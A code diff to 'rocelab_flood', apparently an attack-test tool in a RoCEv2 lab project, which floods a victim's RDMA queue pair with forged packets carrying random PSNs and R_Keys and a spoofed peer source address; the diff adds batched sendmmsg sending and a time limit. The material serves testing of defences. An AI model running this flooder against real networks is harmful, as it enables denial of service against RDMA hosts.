@@ -6,13 +6,19 @@
 //   - the same to the victim's connected QP, from the attacker's address, with
 //     random PSNs and R_Keys (the QP takes packets only from its peer's
 //     address: drop_source_address).
-// It prints how many it sent and how fast. Used by tests/attack/flood.sh.
+// Batches of 64 with sendmmsg on the Asio socket's handle (Asio does not
+// batch); it stops after --count packets or --seconds, whichever comes first,
+// and prints how many it sent and how fast. Used by tests/attack/flood.sh.
+#include <sys/socket.h>
+
 #include <CLI/CLI.hpp>
 #include <boost/asio/io_context.hpp>
 #include <boost/asio/ip/udp.hpp>
 #include <chrono>
 #include <cstdio>
 #include <vector>
+#include <algorithm>
+#include <array>
 
 #include "wire/icrc.h"
 #include "wire/ip_udp.h"
@@ -69,11 +75,13 @@ int main(int argc, char** argv) {
   uint32_t victim_qpn = 0;
   uint64_t count = 1'000'000;
   double share = 0.5;
+  double seconds = 1e9;
   app.add_option("--from", from, "the attacker's IPv4 address (bound, source port 0xC000)")->required();
   app.add_option("--to", to, "the victim's IPv4 address (UDP 4791)")->required();
   app.add_option("--qpn", victim_qpn, "the victim's connected QPN (0: random QPNs only)");
   app.add_option("--count", count, "packets to send")->check(CLI::Range(uint64_t{1}, uint64_t{1} << 40));
   app.add_option("--victim-share", share, "fraction of the packets to --qpn")->check(CLI::Range(0.0, 1.0));
+  app.add_option("--seconds", seconds, "stop after this long at the latest")->check(CLI::PositiveNumber);
   CLI11_PARSE(app, argc, argv);
   auto src = wire::IpAddr::parse(from), dst = wire::IpAddr::parse(to);
   if (!src || !dst || src->v6 || dst->v6) {
@@ -100,12 +108,31 @@ int main(int argc, char** argv) {
     if (ring.back().empty()) return 1;
   }
   const asio::ip::udp::endpoint ep(asio::ip::make_address_v4(dst->v4_u32()), wire::kRoceV2Port);
+  constexpr size_t kBatch = 64;
+  std::array<mmsghdr, kBatch> msgs{};
+  std::array<iovec, kBatch> iov{};
   const auto t0 = std::chrono::steady_clock::now();
-  uint64_t sent = 0, refused = 0;
-  for (uint64_t i = 0; i < count; ++i) {
-    const auto& p = ring[(i * 2654435761u) % kRing];
-    sock.send_to(asio::buffer(p.data(), p.size()), ep, 0, ec);
-    ec ? ++refused : ++sent;
+  const auto deadline = t0 + std::chrono::duration_cast<std::chrono::steady_clock::duration>(
+                                 std::chrono::duration<double>(seconds));
+  uint64_t sent = 0, refused = 0, i = 0;
+  while (i < count && std::chrono::steady_clock::now() < deadline) {
+    const size_t n = static_cast<size_t>(std::min<uint64_t>(kBatch, count - i));
+    for (size_t k = 0; k < n; ++k, ++i) {
+      auto& p = ring[(i * 2654435761u) % kRing];
+      iov[k] = {p.data(), p.size()};
+      msgs[k] = {};
+      msgs[k].msg_hdr.msg_name = const_cast<void*>(static_cast<const void*>(ep.data()));
+      msgs[k].msg_hdr.msg_namelen = static_cast<socklen_t>(ep.size());
+      msgs[k].msg_hdr.msg_iov = &iov[k];
+      msgs[k].msg_hdr.msg_iovlen = 1;
+    }
+    const int r = ::sendmmsg(sock.native_handle(), msgs.data(), static_cast<unsigned>(n), 0);
+    if (r > 0) {
+      sent += static_cast<uint64_t>(r);
+      refused += n - static_cast<size_t>(r);
+    } else {
+      refused += n;
+    }
   }
   const double s = std::chrono::duration<double>(std::chrono::steady_clock::now() - t0).count();
   std::printf("rocelab_flood: sent %llu packets in %.2f s (%.0f packets/s), %llu refused by the socket\n",
